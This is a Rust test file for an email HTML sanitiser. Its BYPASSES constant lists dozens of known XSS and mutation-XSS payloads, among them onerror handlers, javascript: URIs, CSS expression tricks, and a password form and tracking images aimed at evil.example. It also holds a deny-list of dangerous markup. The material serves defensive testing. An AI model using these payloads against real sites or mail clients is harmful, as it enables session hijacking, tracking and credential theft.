use crate::mail::{SafeHtml, Sanitiser};
use proptest::prelude::*;

fn clean(html: &str) -> String {
    Sanitiser::new().clean(html).html
}

/// What no output may contain, whatever comes in.
fn assert_harmless(html: &str, from: &str) {
    let lower = html.to_ascii_lowercase();
    for needle in [
        "<script",
        "<style",
        "<iframe",
        "<object",
        "<embed",
        "<form",
        "<input",
        "<meta",
        "<base",
        "<link",
        "<svg",
        "<math",
        "<template",
        "<!--",
        "javascript:",
        "vbscript:",
        "data:text",
        "data:image/svg",
        "expression(",
        "url(",
        "@import",
        "position:",
        "srcset=",
        "background=",
    ] {
        let found = lower.find(needle).is_some_and(|at| {
            // As text between tags these are harmless; inside a tag they are not.
            let before = &lower[..at];
            needle.starts_with('<') || before.rfind('<').unwrap_or(0) > before.rfind('>').unwrap_or(0)
        });
        assert!(!found, "{needle} in {html}\nfrom {from}");
    }
    for tag in super::super::html::Tokens::new(html) {
        if let super::super::html::Token::Start(tag) = tag {
            for (name, _) in tag.attributes() {
                assert!(
                    !name.to_ascii_lowercase().starts_with("on"),
                    "{name} in {html}\nfrom {from}"
                );
            }
        }
    }
}

/// From the OWASP filter evasion list, the HTML5 security cheat sheet and published sanitiser bypasses.
const BYPASSES: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "<img/src=\"x\"/onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<a href=\"java\nscript:alert(1)\">x</a>",
    "<a href=\" &#14; javascript:alert(1)\">x</a>",
    "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
    "<a href=\"&#106;&#97;&#118;&#97;script&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<svg/onload=alert(1)>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea><img title=\"</textarea><img src=x onerror=alert(1)>\"></textarea>",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
    "<title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<embed src=\"javascript:alert(1)\">",
    "<base href=\"https://evil.example/\">",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<link rel=stylesheet href=\"https://evil.example/a.css\">",
    "<form action=https://evil.example><input name=password><button formaction=javascript:alert(1)>go</button></form>",
    "<div style=\"background:url(https://evil.example/p.gif)\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<div style=\"wid\\74 h:expr/**/ession(alert(1))\">x</div>",
    "<div style=\"color:red;@import 'https://evil.example'\">x</div>",
    "<div style=\"position:fixed;top:0;left:0;width:100%;height:100%\">x</div>",
    "<div style=\"background-image:\\75rl(https://evil.example)\">x</div>",
    "<div style=\"color:red\" style=\"position:absolute\">x</div>",
    "<table background=\"https://evil.example/p.gif\"><tr><td background=\"javascript:alert(1)\">x</td></tr></table>",
    "<img srcset=\"https://evil.example/p.gif 1x\" src=\"\">",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz4=\">",
    "<video poster=https://evil.example/p.gif><source onerror=alert(1)></video>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<select><template><style><!--</style><a rel=\"--></style></template></select><img id=x src onerror=alert(1)>\">",
    "<a href=\"https://x.example\" onclick=alert(1) onmouseover=\"alert(1)\">x</a>",
    "<<img src=x onerror=alert(1)>",
    "<<o:p>script>alert(1)<</o:p>/script>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

#[test]
fn t07_known_bypasses_do_no_harm() {
    for bypass in BYPASSES {
        assert_harmless(&clean(bypass), bypass);
    }
}

#[test]
fn t07_ordinary_formatting_stays() {
    let html = "<table width=\"600\" bgcolor=\"#ffffff\"><tbody><tr><td align=\"center\" style=\"padding: 4px 8px; color: #333; \
                font-family: Arial, 'Helvetica Neue', sans-serif\"><b>Hi</b> <a href=\"https://example.com/?a=1&amp;b=2\">link</a></td></tr></tbody></table>";
    insta::assert_snapshot!(clean(html));
}

#[test]
fn t07_remote_images_wait_for_the_reader() {
    let SafeHtml { html, remote_images, .. } = Sanitiser::new().clean(
        "<img src=\"https://t.example/p.gif\" width=1 height=1 alt=\"a src=&quot;http://y\"><img alt=x src='HTTP://x.example/a.png'>\
         <img src=cid:logo@x><img src=\"data:image/png;base64,AAAA\"><img src=//x.example/b.png>",
    );
    assert_eq!(remote_images, 2);
    assert!(
        !html.contains(" src=\"http") && !html.contains("//x.example/b.png"),
        "{html}"
    );
    assert!(
        html.contains("data-remote-src=\"https://t.example/p.gif\""),
        "{html}"
    );
    assert!(
        html.contains("data-remote-src=\"HTTP://x.example/a.png\""),
        "{html}"
    );
    assert!(
        html.contains(" src=\"cid:logo@x\"") && html.contains(" src=\"data:image/png;base64,AAAA\""),
        "{html}"
    );
}

#[test]
fn t07_a_mail_cannot_bring_its_own_remote_source_or_fold() {
    let html = clean(
        "<img data-remote-src=https://x.example/a.png><details class=quoted><summary>s</summary>hidden</details>",
    );
    assert!(
        !html.contains("data-remote-src") && !html.contains("<details"),
        "{html}"
    );
    assert!(html.contains("hidden"));
}

#[test]
fn t07_a_large_data_image_is_left_out() {
    let html = clean(&format!(
        "<img src=\"data:image/png;base64,{}\">",
        "A".repeat(300 * 1024)
    ));
    assert!(!html.contains("data:"), "{}", html.len());
}

#[test]
fn t07_links_open_elsewhere_and_tell_nothing() {
    let html = clean(
        "<a href=\"https://example.com\" target=_top rel=opener>x</a><a href=/relative>y</a><a href=\"mailto:a@b.example\">z</a>",
    );
    assert_eq!(
        html.matches("rel=\"noopener noreferrer nofollow\"").count(),
        3,
        "{html}"
    );
    assert_eq!(html.matches("target=\"_blank\"").count(), 3, "{html}");
    assert!(
        !html.contains("relative\"") && html.contains("mailto:a@b.example"),
        "{html}"
    );
}

#[test]
fn t07_styles_are_filtered_by_property_and_value() {
    let style = |style: &str| clean(&format!("<p style=\"{style}\">x</p>"));
    assert_eq!(
        style("color:rgb(1, 2, 3) !important;margin:0 auto"),
        "<p style=\"color:rgb(1, 2, 3);margin:0 auto\">x</p>"
    );
    assert_eq!(style("margin-left:-999px"), "<p>x</p>");
    assert_eq!(style("font-size:99999px"), "<p>x</p>");
    assert_eq!(style("z-index:9;opacity:0;top:0"), "<p>x</p>");
    assert_eq!(
        style("border-image:url(x);border-left:1px solid #ccc"),
        "<p style=\"border-left:1px solid #ccc\">x</p>"
    );
}

#[test]
fn t07_unknown_elements_lose_their_tags_and_keep_their_text() {
    assert_eq!(
        clean("<o:p>a</o:p><blink>b</blink><div>c</div>"),
        "a\nb\n<div>c</div>"
    );
    assert_eq!(clean("1 < 2 <<b>x</b>"), "1 &lt; 2 &lt;<b>x</b>");
}

#[test]
fn t07_sloppy_but_harmless_html_is_not_simplified() {
    let row = "<tr><td><font size=2 color=red><p>cell<td><b>x<font face=Arial>y</tr>";
    let safe = Sanitiser::new().clean(&format!("<table>{}</table>", row.repeat(2_000)));
    assert!(!safe.simplified);
    let safe = Sanitiser::new().clean(&format!("<ul>{}</ul>", "<li>item".repeat(2_000)));
    assert!(!safe.simplified);
    let safe = Sanitiser::new().clean(&"<div><span>x</div>".repeat(2_000));
    assert!(!safe.simplified);
}

proptest! {
    #[test]
    fn t07_nothing_harmful_gets_through(pieces in prop::collection::vec(prop::sample::select(BYPASSES), 1..5), cut in 0_usize..200) {
        let html: String = pieces.concat().chars().skip(cut).collect();
        assert_harmless(&clean(&html), &html);
    }

    #[test]
    fn t07_cleaning_twice_changes_nothing(pieces in prop::collection::vec(prop::sample::select(vec![
        "<div>", "</div>", "<b>", "</b>", "<p>", "</p>", "text", "<", "&amp;", "<li>",
    ]), 0..20)) {
        let once = clean(&pieces.concat());
        prop_assert_eq!(clean(&once), once);
    }
}

#[test]
fn t07_the_first_line_break_of_preformatted_text_stays() {
    let safe = clean("<pre>\n\nx</pre>");
    assert_eq!(safe, "<pre>\n\nx</pre>");
    assert_eq!(clean(&safe), safe);
}
